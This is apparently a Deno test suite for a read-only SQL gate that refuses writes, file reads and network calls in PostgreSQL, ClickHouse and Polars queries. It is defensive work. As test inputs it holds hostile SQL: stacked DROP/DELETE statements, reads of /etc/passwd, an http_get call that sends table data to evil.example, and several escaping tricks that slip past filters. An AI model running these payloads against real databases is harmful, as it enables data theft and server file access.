/**
 * The SQL gate (lib/sources/statement_gate.ts), called directly: the refusals by statement.
 */
import { deepStrictEqual as assertEquals, match, ok, throws } from "node:assert/strict";
import { checkReadOnlySelect } from "../lib/sources/statement_gate.ts";

Deno.test("the read-only gate: one SELECT, no writes, literals are data", () => {
  assertEquals(
    checkReadOnlySelect("SELECT 'DELETE; DROP' AS s;  ", "postgres"),
    "SELECT 'DELETE; DROP' AS s",
  );
  assertEquals(
    checkReadOnlySelect("with t as (select 1) select * from t", "clickhouse"),
    "with t as (select 1) select * from t",
  );
  for (
    const [sql, reason] of [
      ["DELETE FROM organization", /only SELECT/],
      ["SELECT 1; DROP TABLE organization", /one statement/],
      ["SELECT 1 -- x\n; UPDATE organization SET name = 'x'", /one statement/],
      ["WITH d AS (DELETE FROM organization RETURNING 1) SELECT * FROM d", /DELETE is refused/],
      ["SELECT * INTO backup FROM organization", /INTO is refused/],
      ["SELECT * FROM organization FOR UPDATE", /UPDATE is refused/],
      ["SELECT pg_read_file('/etc/passwd')", /pg_read_file/],
    ] as const
  ) {
    let message = "";
    try {
      checkReadOnlySelect(sql, "postgres");
    } catch (error) {
      message = (error as Error).message;
    }
    ok(reason.test(message), `${sql}: ${message}`);
  }
  let polars = "";
  try {
    checkReadOnlySelect("SELECT * FROM read_csv('/etc/passwd')", "polars");
  } catch (error) {
    polars = (error as Error).message;
  }
  ok(/read_csv/.test(polars), polars);
});

/** The gate's refusal of `sql` in `dialect`, or "accepted". */
function gate(sql: string, dialect: "polars" | "postgres" | "clickhouse"): string {
  try {
    checkReadOnlySelect(sql, dialect);
    return "accepted";
  } catch (error) {
    return (error as Error).message;
  }
}

Deno.test("the read-only gate: no SETTINGS clause on ClickHouse, no set_config or SET on PostgreSQL; a trailing ; and comments are fine", () => {
  const settingsRefused =
    "a SETTINGS clause is refused: the session's limits (readonly, max_execution_time) hold for every statement, and a readonly=1 profile refuses every setting sent with a query; remove it (quote a column named settings as `settings`)";
  for (
    const sql of [
      "SELECT count() FROM numbers(20000000000) SETTINGS max_execution_time = 0",
      "SELECT 1 AS x SETTINGS readonly = 0",
      "SELECT * FROM (SELECT 1 AS x settings max_memory_usage = 0)",
      "SELECT 1 AS x SETTINGS /* c */ max_threads = 64;",
    ]
  ) assertEquals(gate(sql, "clickhouse"), settingsRefused, sql);
  assertEquals(gate("SELECT `settings` FROM t", "clickhouse"), "accepted");
  assertEquals(gate("SELECT 'SETTINGS readonly = 0' AS x", "clickhouse"), "accepted");
  // PostgreSQL's ways to lift statement_timeout inside a statement
  assertEquals(
    gate("SELECT set_config('statement_timeout', '0', true), pg_sleep(100)", "postgres"),
    "function set_config() is refused: it reads files, reaches other servers or has side effects",
  );
  match(gate("SET LOCAL statement_timeout = 0", "postgres"), /only SELECT statements/);
  match(gate("SELECT 1; SET LOCAL statement_timeout = 0", "postgres"), /one statement/);
  // a trailing ; with comments after it, as a query file may end
  assertEquals(
    checkReadOnlySelect("SELECT 1 AS x;\n-- end of query\n", "clickhouse"),
    "SELECT 1 AS x",
  );
  assertEquals(checkReadOnlySelect("SELECT 1 AS x; /* end */", "postgres"), "SELECT 1 AS x");
  match(gate("SELECT 1 AS x; SELECT 2 AS y; -- end", "clickhouse"), /one statement/);
});

Deno.test("the read-only gate: a column or alias named like a write word passes in a select list; the same word as a statement or clause is refused", () => {
  const dialects = ["postgres", "clickhouse", "polars"] as const;
  // after SELECT, DISTINCT, AS or a comma (a table's name and a dot may stand before it), before
  // a comma, AS or FROM: a name in every engine's grammar
  for (
    const sql of [
      "SELECT start, comment FROM events",
      "SELECT id, start AS s, load AS l FROM events",
      "SELECT DISTINCT comment FROM events",
      "SELECT e.start, e.comment AS c FROM events e",
      'SELECT "e".start, public . e . comment, x FROM events',
      "SELECT min(created_at) AS start, max(created_at) AS release FROM events",
      "SELECT lower(name) AS comment, count(*) AS n FROM events GROUP BY 1",
      "SELECT id FROM (SELECT id, security, cluster FROM events) AS t",
      "SELECT\n  start,\n  -- the end\n  comment\nFROM events",
    ]
  ) {
    for (const dialect of dialects) {
      assertEquals(gate(sql, dialect), "accepted", `${dialect}: ${sql}`);
    }
  }
  // the words where they write, lock or start a statement stay refused
  for (
    const [sql, word] of [
      ["WITH d AS (DELETE FROM organization RETURNING id) SELECT count(*) FROM d", "DELETE"],
      ["WITH d AS MATERIALIZED (UPDATE t SET a = 1 RETURNING a) SELECT a FROM d", "UPDATE"],
      [
        "WITH a AS (SELECT 1), d AS (INSERT INTO t VALUES (1) RETURNING 1) SELECT 1 FROM d",
        "INSERT",
      ],
      ["SELECT * FROM organization FOR UPDATE", "UPDATE"],
      ["SELECT id FROM organization FOR NO KEY UPDATE OF organization", "UPDATE"],
      // an empty select list: SELECT INTO writes a table (INTO counts wherever it stands)
      ["SELECT INTO backup FROM organization", "INTO"],
      ["SELECT id, INTO FROM organization", "INTO"],
      ["SELECT * INTO backup FROM organization", "INTO"],
      ["SELECT 1 AS x FROM t INTO OUTFILE 'x.csv'", "INTO"],
      // not in a select list's place: a column named start elsewhere is still to be quoted
      ["SELECT id FROM events ORDER BY start", "START"],
      ["SELECT id FROM events WHERE comment IS NULL", "COMMENT"],
      ["SELECT count(start) AS n FROM events", "START"],
      ["SELECT 1 start FROM events", "START"],
      ["SELECT t.select start FROM t", "START"],
      ["SELECT x$start, y FROM t", "START"],
      ["SELECT 1.start, y FROM t", "START"],
      ["SELECT a.b.c.d.e.start, y FROM t", "START"],
      ["SELECT start FROM events WHERE start > 0", "START"],
    ] as const
  ) {
    assertEquals(
      gate(sql, "postgres"),
      `only read-only SELECT statements are allowed; ${word} is refused (nothing is ever written; quote a column or table named ${word.toLowerCase()})`,
      sql,
    );
  }
  // the first word decides the statement, whatever follows it
  for (const sql of ["START TRANSACTION", "COMMENT ON TABLE t IS 'x'", "LOAD 'x', 'y'"]) {
    match(gate(sql, "postgres"), /only SELECT statements are allowed \(read-only\)/, sql);
  }
});

Deno.test("the read-only gate: ClickHouse's system tables are read in a SELECT, the SYSTEM statement is refused", () => {
  for (
    const sql of [
      "SELECT query, elapsed FROM system.processes",
      "SELECT name, type FROM system.columns WHERE table = 'request_response_rmt'",
      "SELECT name, value FROM system.settings WHERE name = 'readonly'",
      "SELECT count() FROM SYSTEM . tables",
      "SELECT * FROM `system`.processes",
      "SELECT column_name FROM information_schema.columns",
    ]
  ) assertEquals(gate(sql, "clickhouse"), "accepted", sql);
  for (const sql of ["SYSTEM RELOAD DICTIONARIES", "system drop dns cache"]) {
    match(gate(sql, "clickhouse"), /only SELECT statements are allowed \(read-only\); SYSTEM/);
  }
});

Deno.test("the read-only gate refuses PostgreSQL's functions with side effects, one of each family", () => {
  // PostgreSQL 15's volatile pg_catalog functions that change something (pg_proc, provolatile
  // 'v'), pg_current_xact_id (which assigns an xid), older servers' names and common extensions'
  for (
    const call of [
      "pg_stat_reset()",
      "pg_stat_reset_shared('bgwriter')",
      "pg_catalog.pg_stat_reset_single_table_counters(1)",
      "pg_stat_statements_reset()",
      "pg_stat_force_next_flush()",
      "pg_logical_emit_message(true, 'x', 'y')",
      "pg_logical_slot_get_changes('s', NULL, NULL)",
      "pg_current_xact_id()",
      "txid_current()",
      "pg_notify('c', 'x')",
      "pg_advisory_xact_lock(1)",
      "pg_try_advisory_lock(1)",
      "pg_cancel_backend(1)",
      "pg_terminate_backend(1)",
      "pg_reload_conf()",
      "pg_rotate_logfile()",
      "pg_rotate_logfile_old()",
      "pg_log_backend_memory_contexts(1)",
      "pg_switch_wal()",
      "pg_switch_xlog()",
      "pg_create_restore_point('x')",
      "pg_create_logical_replication_slot('s', 'test_decoding')",
      "pg_copy_physical_replication_slot('a', 'b')",
      "pg_drop_replication_slot('s')",
      "pg_replication_slot_advance('s', '0/0')",
      "pg_replication_origin_create('o')",
      "pg_backup_start('x')",
      "pg_start_backup('x')",
      "pg_wal_replay_pause()",
      "pg_promote()",
      "pg_export_snapshot()",
      "setval('s', 1)",
      "nextval('s')",
      "lo_import('/etc/passwd')",
      "lowrite(0, 'x')",
      "dblink_exec('host=x', 'DELETE FROM t')",
      "pg_read_file_old('x', 0, 1)",
      "pg_file_write('x', 'y', false)",
      "query_to_xml('SELECT nextval(''s'')', true, true, '')",
      "ts_stat('SELECT nextval(''s'')::text::tsvector')",
      "ts_rewrite('a'::tsquery, 'SELECT nextval(''s'')')",
      "brin_summarize_new_values('i')",
      "gin_clean_pending_list('i')",
      "pg_import_system_collations('pg_catalog')",
      "pg_nextoid('t', 'c', 'i')",
      "binary_upgrade_set_next_pg_type_oid(1)",
      "set_config('statement_timeout', '0', true)",
      // newer servers' (16, 17)
      "pg_log_standby_snapshot()",
      "pg_sync_replication_slots()",
      // extensions that reach other servers from the READ ONLY transaction, or run SQL outside
      // it: Supabase's http (pgsql-http) and pg_net, pg_background, aws_s3
      "http(('GET', 'https://evil.example/', NULL, NULL, NULL)::http_request)",
      "extensions.http_get('https://evil.example/?d=' || (SELECT string_agg(id::text, ',') FROM organization))",
      "http_post('https://evil.example/', 'x', 'text/plain')",
      "net.http_get('https://evil.example/')",
      "http_set_curlopt('CURLOPT_PROXY', 'evil.example')",
      "pg_background_launch('DELETE FROM organization')",
      "pg_background_result(1)",
      "aws_s3.query_export_to_s3('SELECT 1', 'b', 'k')",
    ]
  ) {
    const name = call.replace(/^(pg_catalog|extensions|net|aws_s3)\./, "").split("(")[0];
    assertEquals(
      gate(`SELECT ${call} AS x`, "postgres"),
      `function ${name}() is refused: it reads files, reaches other servers or has side effects`,
      call,
    );
  }
  // reading functions of the same families pass
  for (
    const call of [
      "pg_stat_get_numscans(1)",
      "pg_current_xact_id_if_assigned()",
      "txid_current_if_assigned()",
      "txid_current_snapshot()",
      "txid_status(1)",
      "pg_is_wal_replay_paused()",
      "pg_current_wal_lsn()",
      "currval('s')",
      "pg_sleep(0)",
      "lower('x')",
      // a column named http, and functions whose names only start like the refused ones
      "(SELECT http FROM (SELECT 1 AS http) AS t)",
      "httpd_status(1)",
    ]
  ) assertEquals(gate(`SELECT ${call} AS x`, "postgres"), "accepted", call);
});

Deno.test("the read-only gate reads strings and comments as each engine does", () => {
  // Polars SQL: '' doubling only, a backslash is a character ('a\' is a whole string)
  for (
    const [sql, verdict] of [
      ["SELECT 'a\\' AS x, * FROM read_csv('/tmp/fake.env') -- '", /read_csv\(\) is refused/],
      ["SELECT 'a\\' AS x, * FROM \"read_csv\"('/tmp/fake.env') -- '", /read_csv\(\) is refused/],
      // sqlparser takes a '…' string where a table goes for a name: 'read_csv'(…) is read_csv(…)
      ["SELECT * FROM 'read_csv'('/tmp/fake.env')", /read_csv\(\) is refused/],
      ["SELECT * FROM 'Scan_Parquet' /* x */ ('/tmp/x.parquet')", /Scan_Parquet\(\) is refused/],
      ["SELECT * FROM pricing_data WHERE org_name = 'a\\' OR 1=1 --'", /^accepted$/],
      ['SELECT \'it\'\'s\' AS x, "a\\" AS "b""c" FROM pricing_data', /^accepted$/],
      ["SELECT 1 AS `a\\` ; DROP TABLE x --`", /one statement/],
      // E'…' reads backslash escapes in Polars SQL: refused, not guessed at
      ["SELECT E'a\\' AS x, * FROM read_csv('/x') -- '", /E'…' strings are refused/],
      ["SELECT 1e'a\\' AS x FROM pricing_data", /right after the number 1e/],
      ["SELECT @e'a\\' AS x, * FROM read_csv('/x') -- '", /e'…' strings are refused/],
      ["SELECT $$a$$ AS x FROM pricing_data", /\$ is refused/],
      ["SELECT 1 AS x -- c\r, * FROM read_csv('/x')", /carriage return/],
      // nested comments, as Polars nests them
      ["SELECT 1 AS x /* a /* b */ read_csv('/x') */ FROM pricing_data", /^accepted$/],
      ["SELECT 1 AS x /* a /* b */ FROM pricing_data", /unclosed \/\* comment/],
    ] as const
  ) ok(verdict.test(gate(sql, "polars")), `${sql}: ${gate(sql, "polars")}`);
  // PostgreSQL: '' doubling (backslash escapes too when standard_conforming_strings is off:
  // both readings must pass), E'…' with backslash escapes, $$ quoting, -- ends at CR or LF
  for (
    const [sql, verdict] of [
      ["SELECT 'a\\' AS x, pg_read_file('/etc/passwd') -- '", /pg_read_file\(\) is refused/],
      ["SELECT 'a\\' AS x", /unclosed ' string.*standard_conforming_strings off/],
      ["SELECT 'a\\\\' AS x", /^accepted$/],
      ["SELECT E'a\\' , pg_read_file(' AS x", /^accepted$/],
      ["SELECT e'a\\'' AS x, pg_read_file('/etc/passwd') -- '", /pg_read_file/],
      ["SELECT $q$ ' $q$ AS a, pg_read_file('/etc/passwd') AS b", /pg_read_file/],
      ["SELECT $$ ' $$ AS a, $t$ $$ ' $t$ AS b", /^accepted$/],
      ["SELECT 1 AS x -- c\r, pg_read_file('/etc/passwd')", /carriage return/],
      ["SELECT 1.e'x' AS x", /right after the number 1\.e/],
      ["SELECT 1 AS x /* a /* ; */ b */", /^accepted$/],
    ] as const
  ) ok(verdict.test(gate(sql, "postgres")), `${sql}: ${gate(sql, "postgres")}`);
  // ClickHouse: backslash escapes in '…', "…" and `…`; what its versions read differently
  for (
    const [sql, verdict] of [
      ["SELECT 'a\\' , * FROM file('/etc/passwd') -- ' AS x", /^accepted$/],
      // (one name, which holds a backslash: refused as such, not read as two statements)
      ["SELECT 1 AS `a\\` ; DROP TABLE x --`", /backslash in a quoted name is refused/],
      ["SELECT 1 AS x // c\n, * FROM file('/etc/passwd')", /\/\/ is refused/],
      ["SELECT 1 AS x # c\n, * FROM file('/etc/passwd')", /# is refused/],
      ["SELECT 1 AS x /* /* */ , file('/etc/passwd') */", /a \/\* inside a \/\* comment/],
      ["SELECT $$a$$ AS x", /\$ is refused/],
    ] as const
  ) ok(verdict.test(gate(sql, "clickhouse")), `${sql}: ${gate(sql, "clickhouse")}`);
});

Deno.test('the read-only gate: a PostgreSQL U&"…" name, whose escapes spell a refused function, is refused', () => {
  // U&"pg\005fread_file" is pg_read_file to PostgreSQL (it read the server's files past the gate)
  for (
    const sql of [
      "SELECT U&\"pg\\005fread_file\"('/etc/hostname')",
      "SELECT u&\"pg\\005fls_dir\"('.')",
      "SELECT U&\"pg!005fread_file\" UESCAPE '!' ('/etc/hostname')",
    ]
  ) match(gate(sql, "postgres"), /U&"…" names are refused/, sql);
  // the same letters in a string, a comment or an operator between a column and a name pass
  for (
    const sql of [
      "SELECT 'U&\"x\"' AS s",
      'SELECT 1 AS x -- U&"x"',
      'SELECT u &"x" FROM (SELECT 1 AS u, 2 AS "x") t',
    ]
  ) assertEquals(gate(sql, "postgres"), "accepted", sql);
});

Deno.test("the read-only gate: Polars' read_csv qualified by a name (read_csv.x(…)) is refused: Polars calls the first part", () => {
  // Polars takes a table function's name from a qualified name's first part: read_csv.x(…) and
  // "read_csv".x.y(…) read the file (query_sql returned it past both checks)
  for (
    const sql of [
      "SELECT * FROM read_csv.x('/etc/hostname')",
      "SELECT * FROM read_parquet.x.y('/tmp/x.parquet')",
      "SELECT * FROM \"read_csv\".x('/etc/hostname')",
      "SELECT * FROM read_csv\t.''('/etc/hostname')",
      "SELECT * FROM read_csv /* c */ .AS#@('/etc/hostname')",
      "SELECT * FROM Scan_Parquet.x('/tmp/x.parquet')",
    ]
  ) match(gate(sql, "polars"), /^function (read|scan)_\w+\(\) is refused/i, sql);
  // a column whose name only starts so, and a name qualified by another, pass
  for (
    const sql of [
      "SELECT read_count, t.read_me FROM pricing_data AS t",
      "SELECT * FROM x.read_csv_like",
    ]
  ) assertEquals(gate(sql, "polars"), "accepted", sql);
});

Deno.test("the read-only gate: a space JavaScript's \\s lacks (U+0085, U+200B, …) hides no refused call", () => {
  // Polars (sqlparser: Rust's char::is_whitespace) reads U+0085 as a space, modern ClickHouse
  // (chdb 26.7) U+0085, U+180E, U+200B–U+200D and U+2060 (both ran the file read past the gate,
  // whose \s* between a name and its ( has none of them)
  const spaces = ["\u0085", "\u180e", "\u200b", "\u200c", "\u200d", "\u2060"];
  for (const space of spaces) {
    const shown = `U+${space.codePointAt(0)!.toString(16).toUpperCase().padStart(4, "0")}`;
    for (
      const [sql, dialect] of [
        [`SELECT * FROM read_csv${space}('/etc/hostname')`, "polars"],
        [`SELECT * FROM file${space}('/etc/hostname', 'LineAsString')`, "clickhouse"],
        [`SELECT pg_read_file${space}('/etc/hostname')`, "postgres"],
        [`SELECT 1${space}AS x`, "postgres"],
      ] as const
    ) {
      const verdict = gate(sql, dialect);
      ok(verdict.startsWith(`${shown} is refused`), `${dialect} ${sql}: ${verdict}`);
    }
    // in a string, a quoted name or a comment it is text
    for (
      const sql of [`SELECT '${space}' AS x`, `SELECT 1 AS "${space}"`, `SELECT 1 AS x -- ${space}`]
    ) assertEquals(gate(sql, "clickhouse"), "accepted", sql);
  }
});

Deno.test("the read-only gate: a ClickHouse quoted name with a backslash escape is refused", () => {
  // ClickHouse decodes escapes in `…` and "…" names: `\x66ile`(…) is file(…), "u\x72l"(…) url(…)
  // (the test server fetched the URL past the gate)
  for (
    const sql of [
      "SELECT * FROM `\\x66ile`('users.xml', 'TSV', 'a String')",
      "SELECT * FROM \"u\\x72l\"('http://127.0.0.1:1/', 'TSV', 'a String')",
      "SELECT 1 AS `a\\`b`",
    ]
  ) match(gate(sql, "clickhouse"), /backslash in a quoted name is refused/, sql);
  // a backslash in a string is data; quoted names without one pass
  for (
    const sql of [
      "SELECT 'a\\x66' AS s",
      'SELECT 1 AS `file`, 2 AS "url"',
    ]
  ) assertEquals(gate(sql, "clickhouse"), "accepted", sql);
});

Deno.test("the read-only gate refuses modern ClickHouse's table functions that read files or reach other servers", () => {
  // a readonly=2 session (the kit's) allows table functions: the gate is what refuses them
  for (
    const fn of [
      "fileCluster",
      "hdfsCluster",
      "gcsCluster",
      "deltaLakeCluster",
      "deltaLakeAzure",
      "deltaLakeLocal",
      "hudiCluster",
      "paimonS3",
      "ytsaurus",
      "arrowFlight",
      "cosn",
      "oss",
      "fuzzQuery",
    ]
  ) {
    match(gate(`SELECT * FROM ${fn}('x')`, "clickhouse"), /is refused: it reads files/, fn);
  }
  // ClickHouse's URL string functions are not the url() table function
  assertEquals(
    gate("SELECT URLHash('http://a'), cutURLParameter('x', 'y')", "clickhouse"),
    "accepted",
  );
});

Deno.test("the read-only gate refuses unbalanced parentheses, which would break out of the row-capping wrapper; those in strings, names and comments do not count", () => {
  // `SELECT * FROM (\n<statement>\n) LIMIT n` around `SELECT … FROM t) UNION ALL SELECT 1
  // WHERE 1 IN (SELECT 1` leaves the first SELECT outside the LIMIT (ClickHouse limits each
  // SELECT of a UNION on its own)
  for (const dialect of ["polars", "postgres", "clickhouse"] as const) {
    assertEquals(
      gate("SELECT number FROM t) UNION ALL SELECT 1 WHERE 1 IN (SELECT 1", dialect),
      "unbalanced parentheses: the ) at character 21 closes no (; the statement must balance its parentheses (those inside strings, quoted names and comments do not count)",
    );
    assertEquals(
      gate("SELECT count(*) FROM (SELECT 1 AS x", dialect),
      "unbalanced parentheses: 1 ( left unclosed; the statement must balance its parentheses (those inside strings, quoted names and comments do not count)",
    );
    assertEquals(
      gate("SELECT ((1 AS x", dialect),
      "unbalanced parentheses: 2 ( left unclosed; the statement must balance its parentheses (those inside strings, quoted names and comments do not count)",
    );
    // (counted in the text as sent, leading blanks too)
    ok(
      /^unbalanced parentheses: the \) at character 16 closes no \(;/.test(
        gate("\n SELECT 1 AS x)", dialect),
      ),
    );
    for (
      const sql of [
        "SELECT ')(' AS x, \"a)\" AS y FROM (SELECT 1 AS z) AS t -- )\n",
        "SELECT count(*) /* ( */ AS n FROM t",
        "(SELECT 1 AS x)",
      ]
    ) assertEquals(gate(sql, dialect), "accepted", `${dialect}: ${sql}`);
  }
  assertEquals(gate("SELECT $$)$$ AS x", "postgres"), "accepted");
  assertEquals(gate("SELECT `)` FROM t", "clickhouse"), "accepted");
});

Deno.test("the read-only gate: an alias spelled read_… before a dot is refused with the fix (rename it); other refused functions say no such fix", () => {
  throws(
    () =>
      checkReadOnlySelect(
        "SELECT read_x.org_id FROM pricing_data AS read_x",
        "polars",
      ),
    (error: Error) => {
      assertEquals(
        error.message,
        "function read_x() is refused: it reads files, reaches other servers or has side effects; a table or alias named read_x is refused too: rename it",
      );
      return true;
    },
  );
  assertEquals(
    checkReadOnlySelect("SELECT r.org_id FROM pricing_data AS r", "polars"),
    "SELECT r.org_id FROM pricing_data AS r",
  );
  throws(
    () => checkReadOnlySelect("SELECT * FROM url('http://x', CSV, 'a String')", "clickhouse"),
    (
      error: Error,
    ) => {
      ok(!error.message.includes("rename"), error.message);
      return true;
    },
  );
});
